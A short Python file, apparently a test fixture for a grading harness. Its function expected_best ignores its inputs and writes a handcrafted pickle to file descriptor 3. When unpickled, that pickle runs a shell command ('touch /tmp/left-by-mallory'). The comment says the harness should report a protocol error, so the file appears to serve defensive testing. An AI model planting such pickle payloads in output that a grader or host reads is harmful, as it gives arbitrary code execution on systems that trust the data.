# expected_best -> error: broke the protocol
import os
def expected_best(scores, n):
    os.write(3, b'cposix\nsystem\n(S"touch /tmp/left-by-mallory"\ntR.' * 9)
